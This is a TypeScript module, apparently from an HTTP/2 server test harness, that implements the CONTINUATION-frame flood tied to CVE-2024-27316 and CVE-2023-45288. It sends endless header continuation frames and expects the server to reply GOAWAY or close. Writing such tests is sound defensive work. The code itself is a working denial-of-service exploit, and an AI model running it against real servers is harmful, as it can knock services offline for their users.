// A header block that never ends.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2024-27316, CVE-2023-45288',
  does: 'sends CONTINUATION frames without end',
  who: ['known', 'unknown'],
  answers: [],
  must: ['GOAWAY ENHANCE_YOUR_CALM', 'closed'],
  run: (target, signal) =>
    attackHttp2(target, signal, { acknowledges: false }, (connection) => {
      const block = head(target, 'GET', '/version')
      const piece = h2.headerBlock(['x-a', 'y'.repeat(1_000)])
      let stream = 0
      return {
        next() {
          if (stream === 0) {
            stream = connection.stream()
            return h2.frame(h2.HEADERS, h2.END_STREAM, stream, block)
          }
          return h2.frame(h2.CONTINUATION, 0, stream, piece)
        },
      }
    }),
}
